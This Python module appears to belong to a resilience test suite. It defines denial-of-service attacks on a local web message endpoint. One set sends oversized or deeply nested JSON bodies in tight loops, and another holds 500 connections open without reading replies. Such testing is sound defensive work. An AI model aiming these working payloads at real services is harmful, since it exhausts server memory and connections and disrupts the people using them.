"""Requests in JSON that are small on the wire and large in memory, and clients that do not read their answers."""

import asyncio
import contextlib
import socket
from collections.abc import Callable, Mapping
from functools import partial

from bench.attacks.attack import Attack, Target

SEND = "/opencode.message.MessageService/SendMessage"
CONSOLE = "/"

_BODIES: Mapping[str, Callable[[], bytes]] = {
    "json_values": lambda: b'{"parts":[' + b",".join([b"{}"] * 5_000_000) + b"]}",
    "json_numbers": lambda: b'{"parts":[' + b",".join([b"1"] * 7_000_000) + b"]}",
    "json_fields": lambda: b'{"x":{' + b",".join(b'"%d":0' % number for number in range(1_200_000)) + b"}}",
    "json_nested": lambda: b'{"parts":' + b"[" * 15_000_000,
    "json_escapes": lambda: b'{"sessionId":"' + b"\\u0061" * 2_600_000 + b'"}',
}


async def _post(target: Target, make: Callable[[], bytes]) -> None:
    body = make()
    head = (
        f"POST {SEND} HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
        f"content-length: {len(body)}\r\n\r\n"
    ).encode()
    answers: dict[bytes, int] = {}

    async def again() -> None:
        while True:
            with contextlib.suppress(ConnectionError, asyncio.IncompleteReadError):
                reader, writer = await asyncio.open_connection(*target.host_and_port(web=True))
                writer.write(head + body)
                status = (await reader.readline())[9:12]
                answers[status] = answers.get(status, 0) + 1
                writer.transport.abort()
            await asyncio.sleep(0.01)

    try:
        await asyncio.gather(*(again() for _ in range(4)))
    finally:
        print({status.decode(): count for status, count in answers.items()})


async def _unread(target: Target) -> None:
    """Asks for pages, again and again, and reads nothing."""
    request = f"GET {CONSOLE} HTTP/1.1\r\nhost: localhost\r\n\r\n".encode() * 50
    held = []
    for _ in range(500):
        one = socket.socket()
        one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
        one.setblocking(False)
        with contextlib.suppress(OSError):
            await asyncio.get_running_loop().sock_connect(one, target.host_and_port(web=True))
            one.send(request)
        held.append(one)
    await asyncio.Event().wait()


ATTACKS = (
    *(Attack(name, "requests of 16 MiB in JSON", partial(_post, make=make)) for name, make in _BODIES.items()),
    Attack("web_unread", "500 connections that read no answer", _unread),
)
